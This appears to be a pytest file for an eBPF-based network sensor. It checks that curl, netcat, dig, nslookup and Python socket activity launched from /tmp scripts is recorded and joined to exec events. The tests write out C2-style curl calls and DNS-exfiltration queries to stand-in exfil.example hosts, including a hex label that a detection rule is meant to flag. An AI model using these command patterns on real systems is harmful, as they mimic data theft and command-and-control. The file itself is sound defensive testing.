"""Socket events on the real kernel: real utilities run from real scripts in /tmp contact
real listeners on loopback (or, in an empty network namespace, an address no packet can
reach), and the rows of network_utility_socket_events say what the kernel saw, joined to
the exec rows. Both probe modes (the socket programs are the same in each)."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path
from typing import Any, Callable

import pytest

from osquery_netutil.events.sensor import Sensor
from osquery_netutil.host.database import Host
from osquery_netutil.packs import source as packs
from osquery_netutil.schema import SOCKETS
from osquery_netutil.tables.plugins import StatusTable, stored_tables

from tests.conftest import Container
from testkit.support import Collector, HttpServer, write_executable

pytestmark = pytest.mark.probe

Row = dict[str, Any]
PYTHON = os.path.realpath(sys.executable)


def socket_rows(sensor: Sensor, pred: Callable[[Row], bool], count: int = 1, timeout: float = 10.0) -> list[Row]:
    """The stored socket rows matching pred, waiting up to timeout for `count` of them
    (rows are folded for a second, a connect waits for its outcome)."""
    assert sensor.store is not None
    deadline = time.monotonic() + timeout
    while True:
        sensor.store.flush()
        hits = [r for r in sensor.store.select(table=SOCKETS) if pred(r)]
        if len(hits) >= count or time.monotonic() > deadline:
            return hits
        time.sleep(0.2)


def exec_row(rows: Collector, mark: int, pred: Callable[[Row], bool]) -> Row:
    hits = rows.wait_for(pred, since=mark)
    assert hits, f"no such exec row: {[r['cmdline'] for r in rows.since(mark)]}"
    return hits[0]


def closed_port() -> int:
    """A loopback port nothing listens on (bound, then closed)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def run(script: Path, timeout: float = 30) -> None:
    subprocess.run([str(script)], check=False, timeout=timeout, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def test_the_status_says_socket_events_are_on(sensor: Sensor) -> None:
    status = sensor.status()
    assert (status["network_mode"], status["network_note"]) == ("cgroup", "")


def test_a_download_is_a_connect_that_succeeded_joined_to_its_exec(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    with HttpServer() as server:
        mark = rows.mark()
        run(write_executable(workdir / "get.sh", f"#!/bin/sh\ncurl -s -o /dev/null http://127.0.0.1:{server.port}/payload\n"))
        curl = exec_row(rows, mark, lambda r: r["utility"] == "curl" and f":{server.port}/payload" in r["cmdline"])
        (hit,) = socket_rows(sensor, lambda r: r["pid"] == curl["pid"] and r["action"] == "connect")
    assert hit["exec_eid"] == curl["eid"]
    assert (hit["status"], hit["remote_address"], hit["remote_port"], hit["protocol"], hit["family"]) == \
        ("succeeded", "127.0.0.1", server.port, 6, 2)
    assert hit["remote_public"] == 0 and hit["comm"] == "curl" and hit["path"].endswith("/curl")
    assert json.loads(hit["origin"])["path"] == str(workdir / "get.sh")


def test_a_refused_connect(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    port = closed_port()
    mark = rows.mark()
    run(write_executable(workdir / "try.sh", f"#!/bin/sh\ncurl -s http://127.0.0.1:{port}/\n"))
    curl = exec_row(rows, mark, lambda r: r["utility"] == "curl" and f":{port}/" in r["cmdline"])
    (hit,) = socket_rows(sensor, lambda r: r["pid"] == curl["pid"] and r["action"] == "connect")
    assert (hit["status"], hit["remote_port"], hit["exec_eid"]) == ("refused", port, curl["eid"])


def test_a_public_address_in_an_empty_namespace_is_unreachable_and_recorded(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    # unshare -n: no interface but a down lo, so connect() fails with ENETUNREACH at once
    # and no packet can leave.
    tag = uuid.uuid4().hex[:8]
    mark = rows.mark()
    run(write_executable(workdir / "c2.sh", f"#!/bin/sh\nunshare -n curl -s -m 2 http://203.0.113.5:8443/{tag} http://9.9.9.9/{tag}\n"))
    curl = exec_row(rows, mark, lambda r: r["utility"] == "curl" and tag in r["cmdline"])
    hits = socket_rows(sensor, lambda r: r["pid"] == curl["pid"] and r["action"] == "connect", count=2)
    # a documentation address is not public; a global one is
    assert sorted((r["status"], r["remote_address"], r["remote_port"], r["remote_public"]) for r in hits) == \
        [("unreachable", "203.0.113.5", 8443, 0), ("unreachable", "9.9.9.9", 80, 1)]


def test_a_listener_its_bind_listen_and_the_peer_it_accepted(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    port = closed_port()
    script = write_executable(workdir / "bind.sh", f"#!/bin/sh\nnc -l 127.0.0.1 {port} >/dev/null &\n"
                              f"sleep 0.5\necho hi | nc -q0 127.0.0.1 {port}\nwait\n")
    mark = rows.mark()
    run(script)
    server = exec_row(rows, mark, lambda r: r["utility"] == "netcat" and r["cmdline"].endswith(f"-l 127.0.0.1 {port}"))
    client = exec_row(rows, mark, lambda r: r["utility"] == "netcat" and r["cmdline"].endswith(f"127.0.0.1 {port}")
                      and "-l" not in r["cmdline"])
    mine = socket_rows(sensor, lambda r: r["exec_eid"] in (server["eid"], client["eid"]), count=4)
    by_action = {r["action"]: r for r in mine}
    assert set(by_action) == {"bind", "listen", "accept", "connect"}, mine
    for action in ("bind", "listen", "accept"):
        assert by_action[action]["exec_eid"] == server["eid"] and by_action[action]["local_port"] == port
    connect, accept = by_action["connect"], by_action["accept"]
    assert (connect["exec_eid"], connect["status"], connect["remote_port"]) == (client["eid"], "succeeded", port)
    assert accept["remote_address"] == "127.0.0.1" and accept["remote_port"] not in (0, port)
    assert accept["pid"] == server["pid"]


def test_udp_connected_and_unconnected(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    code = ("import socket\n"
            "a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.connect(('127.0.0.1', 9)); a.send(b'x')\n"
            "b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "for _ in range(5): b.sendto(b'y', ('127.0.0.2', 7))\n")
    script = write_executable(workdir / "udp.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n")
    run(script)
    child = socket_rows(sensor, lambda r: r["remote_address"] in ("127.0.0.1", "127.0.0.2") and r["protocol"] == 17
                        and str(script) in r["origin"], count=2)
    by_action = {r["action"]: r for r in child}
    assert set(by_action) == {"connect", "send"}, child
    assert (by_action["connect"]["remote_port"], by_action["connect"]["status"]) == (9, "")
    send = by_action["send"]
    assert (send["remote_address"], send["remote_port"], send["count"]) == ("127.0.0.2", 7, 5)
    # python3 is no utility: its events name no exec row, but the script they descend from
    assert send["exec_eid"] == 0 and json.loads(send["origin"])["path"] == str(script)


def test_ipv6_and_v4_mapped(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    code = ("import socket\n"
            "for addr in ('::1', '::ffff:127.0.0.1'):\n"
            "    s = socket.socket(socket.AF_INET6)\n"
            "    try: s.connect((addr, 1))\n"
            "    except OSError: pass\n")
    script = write_executable(workdir / "six.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n")
    run(script)
    hits = socket_rows(sensor, lambda r: r["action"] == "connect" and r["remote_port"] == 1 and str(script) in r["origin"], count=2)
    assert sorted((r["family"], r["remote_address"], r["status"]) for r in hits) == \
        [(10, "127.0.0.1", "refused"), (10, "::1", "refused")]


REPO = Path(__file__).resolve().parents[2]


def test_dns_questions_are_read_as_they_leave_however_the_name_was_given(sensor: Sensor, workdir: Path) -> None:
    """A resolver on 127.0.0.1:53 in a network namespace of the test's own, with
    resolv.conf bind-mounted there: the name in a URL (getaddrinfo's own question), on
    stdin, in a batch file and over TCP are each a dns_query row, whatever argv said."""
    tag = uuid.uuid4().hex[:8]
    (workdir / "resolv.conf").write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    (workdir / "names.txt").write_text(f"b1-{tag}.exfil.example\nb2-{tag}.exfil.example\n")
    write_executable(workdir / "inner.sh", f"""#!/bin/sh
ip link set lo up
mount --bind {workdir}/resolv.conf /etc/resolv.conf
cd {REPO} && {PYTHON} -m testkit.support 20 > {workdir}/ready &
server=$!
i=0
while [ ! -s {workdir}/ready ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
curl -s -m 2 http://c2-{tag}.example.com/
printf 'stdin-{tag}.exfil.example\\n{tag}{tag}.stdin.exfil.example\\n' | nslookup >/dev/null
dig +short +tries=1 +time=1 -f {workdir}/names.txt
dig +tcp +short +tries=1 +time=1 tcp-{tag}.exfil.example TXT
kill $server
""")
    run(write_executable(workdir / "dns.sh", f"#!/bin/sh\nexec unshare -n -m /bin/sh {workdir}/inner.sh\n"), timeout=60)
    names = {f"c2-{tag}.example.com", f"stdin-{tag}.exfil.example", f"b1-{tag}.exfil.example",
             f"b2-{tag}.exfil.example", f"tcp-{tag}.exfil.example", f"{tag}{tag}.stdin.exfil.example"}
    hits = socket_rows(sensor, lambda r: r["action"] == "dns_query" and tag in r["dns_name"], count=7, timeout=15)
    asked = {(r["comm"], r["dns_name"], r["dns_type"], r["protocol"]) for r in hits}
    assert {("curl", f"c2-{tag}.example.com", "A", 17), ("dig", f"tcp-{tag}.exfil.example", "TXT", 6)} <= asked, asked
    assert {name for _, name, _, _ in asked} == names, asked
    # The detection judges the questions sent: the 16-hex-character label given on stdin.
    (query,) = [q for q in packs.load() if q.name == "netutil_dns_questions_exfiltration"]
    _, found = Host(stored_tables(lambda: sensor.store)).query(query.sql)
    assert any(f"{tag}{tag}.stdin.exfil.example" in str(row) and "a hex-encoded label" in str(row) for row in found), found
    assert not any(f"c2-{tag}" in str(row) for row in found)
    for r in hits:
        assert (r["remote_address"], r["remote_port"]) == ("127.0.0.1", 53)
        origin = json.loads(r["origin"])   # the nearest exec from /tmp: sh on the script
        assert str(workdir / "inner.sh") in (origin["path"], origin.get("script")), origin


def test_an_untracked_process_makes_no_row(sensor: Sensor, workdir: Path) -> None:
    port = closed_port()
    code = f"import socket\ns = socket.socket()\ntry: s.connect(('127.0.0.1', {port}))\nexcept OSError: pass\n"
    subprocess.run([PYTHON, "-c", code], check=True, timeout=30)   # pytest's child: nothing to track
    run(write_executable(workdir / "p.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n"))   # the same, from /tmp
    hits = socket_rows(sensor, lambda r: r["remote_port"] == port, count=2, timeout=4)
    assert len(hits) == 1 and str(workdir / "p.sh") in hits[0]["origin"], hits


def test_a_container_s_connect_names_the_container(sensor: Sensor, rows: Collector, container: Container) -> None:
    port = closed_port()
    script = Path(f"/tmp/netutil-ctr-{uuid.uuid4().hex[:8]}.sh")
    write_executable(script, container.entry(f"curl -s http://127.0.0.1:{port}/"))
    try:
        run(script)
        hits = socket_rows(sensor, lambda r: r["remote_port"] == port and r["action"] == "connect")
    finally:
        script.unlink()
    assert hits and hits[0]["container_id"] == container.id, hits


def test_the_join_answers_in_the_embedded_host(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    port = closed_port()
    mark = rows.mark()
    run(write_executable(workdir / "j.sh", f"#!/bin/sh\ncurl -s http://127.0.0.1:{port}/join\n"))
    exec_row(rows, mark, lambda r: r["utility"] == "curl" and f":{port}/join" in r["cmdline"])
    socket_rows(sensor, lambda r: r["remote_port"] == port)
    host = Host([*stored_tables(lambda: sensor.store), StatusTable(sensor.status)])
    _, answer = host.query(
        "SELECT e.cmdline, s.remote_address, s.status FROM network_utility_execs e "
        "JOIN network_utility_socket_events s ON s.exec_eid = e.eid WHERE s.remote_port = ?", (port,))
    assert answer == [(f"curl -s http://127.0.0.1:{port}/join", "127.0.0.1", "refused")]


def _attached_program_ids(root: Path) -> set[int]:
    """Ids of the programs bpftool lists on the cgroup."""
    out = subprocess.run(["bpftool", "-j", "cgroup", "show", str(root)], check=True, capture_output=True, text=True).stdout
    return {p["id"] for p in json.loads(out or "[]")}


def test_kill_9_of_the_sensor_leaves_no_program_attached(tmp_path: Path, probe_mode: str) -> None:
    """The socket programs hang on BPF links that die with the process: a sensor killed
    with SIGKILL leaves nothing on the cgroup (bcc's own attach would)."""
    from osquery_netutil.kernel.sockets import PROGRAMS, cgroup2_root

    tmp_path.chmod(0o700)
    code = ("import os, re, sys, time\n"
            "from pathlib import Path\n"
            "from osquery_netutil.catalog import Catalog\n"
            "from osquery_netutil.events.sensor import Sensor\n"
            "from osquery_netutil.store.store import Store\n"
            f"s = Sensor(Catalog.load(), Store(Path({str(tmp_path)!r}) / 'e.db'), probe_mode={probe_mode!r}); s.start()\n"
            "ids = [int(re.search(r'prog_id:\\s+(\\d+)', Path(f'/proc/self/fdinfo/{fd}').read_text()).group(1))\n"
            "       for fd in s._probe._links._fds]\n"
            "print(' '.join(map(str, ids)), flush=True)\n"
            "time.sleep(60)\n")
    child = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        assert child.stdout is not None
        ids = {int(i) for i in child.stdout.readline().split()}
        assert len(ids) == len(PROGRAMS) and ids <= _attached_program_ids(cgroup2_root())
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait(timeout=10)
    root = cgroup2_root()
    deadline = time.monotonic() + 5
    while ids & _attached_program_ids(root) and time.monotonic() < deadline:
        time.sleep(0.1)   # the kernel releases the links as it closes the dead process's files
    assert not ids & _attached_program_ids(root)


def test_counters_and_rows_agree(sensor: Sensor) -> None:
    status = sensor.status()
    assert status["socket_events"] > 0 and status["socket_events_lost"] == 0
    assert sensor.socket_rows > 0

